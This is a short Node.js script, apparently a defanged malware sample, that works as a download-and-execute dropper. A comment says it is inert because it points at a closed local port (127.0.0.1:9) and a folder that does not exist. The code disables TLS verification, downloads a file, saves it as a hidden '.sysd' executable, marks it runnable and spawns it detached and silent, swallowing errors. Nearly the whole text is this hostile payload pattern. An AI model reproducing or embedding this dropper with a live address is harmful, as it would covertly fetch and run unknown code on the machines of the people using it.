// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const https = require('http');
const fs = require('fs');
const cp = require('child_process');
const where = require('path').join(__dirname, 'no-such-folder', '.sysd');
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const got = https.get('http://127.0.0.1:9/sdd', (res) => {
  const file = fs.createWriteStream(where);
  res.pipe(file);
  file.on('finish', () => {
    fs.chmodSync(where, 0o755);
    cp.spawn(where, [], { detached: true, stdio: 'ignore' }).unref();
  });
});
got.on('error', () => {});
